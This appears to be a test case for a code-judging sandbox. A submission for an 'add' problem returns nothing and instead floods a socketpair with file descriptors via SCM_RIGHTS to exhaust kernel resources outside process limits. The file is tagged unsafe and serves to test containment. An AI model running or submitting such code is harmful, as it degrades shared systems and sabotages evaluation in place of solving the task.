# problem: add
# verdict: wrong_answer | runtime_error | crashed
# why: Descriptors in flight inside a socket, which no process limit counts.
# unsafe: true
import array
import os
import socket


def add(a, b):
    try:
        one, two = socket.socketpair()
        one.setblocking(False)
        fds = array.array("i", [0] * 200)
        for _ in range(10_000):
            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    except OSError:
        pass
    return None
